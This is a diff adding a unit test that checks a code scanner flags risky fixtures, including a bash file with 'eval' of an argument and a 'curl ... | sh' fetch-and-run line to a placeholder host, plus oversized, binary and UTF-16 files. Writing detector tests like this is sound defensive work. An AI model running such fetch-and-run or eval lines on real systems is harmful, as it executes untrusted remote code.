@@ -120,6 +120,24 @@ class Scan(OapTest):
         self.assertIn("error", answers[2])
         self.assertIsNone(answers[3]["id"])
 
+    def test_code_that_is_not_looked_at_is_told(self):
+        self.write("n.sh", '#!/bin/bash\n# \0 x\neval "$1"\ncurl -s http://e/x | sh\n')
+        found = self.oap("scan", "code", "n.sh", "--json")
+        self.assertEqual(found.code, 1, found)
+        self.assertEqual({f["rule"] for f in found.json()["findings"]}, {"scan.limit", "bash.eval", "bash.fetch-and-run"})
+        (self.work / "u.py").write_bytes("import os\nos.system(x)\n".encode("utf-16"))
+        found = self.oap("scan", "code", "u.py", "--json")
+        self.assertEqual((found.code, found.json()["allowed"]), (1, False), found)
+        self.write("big.py", "x = 1\n" * 800_000)
+        found = self.oap("scan", "code", "big.py")
+        self.assertEqual(found.code, 1, found)
+        self.assertIn("1 too large", found.out)
+        self.write("f/b.bin", "\0 x")
+        found = self.oap("scan", "code", "f")
+        self.assertEqual(found.code, 0, found)
+        self.assertIn("1 binary", found.out)
+        self.assertEqual(self.oap("scan", "code", "f/b.bin").code, 1)
+
     def test_a_whitelisted_fingerprint_is_accepted_until_its_day(self):
         self.write("a.sh", 'eval "$x"\n')
         result = self.oap("scan", "code", "a.sh", "--json")
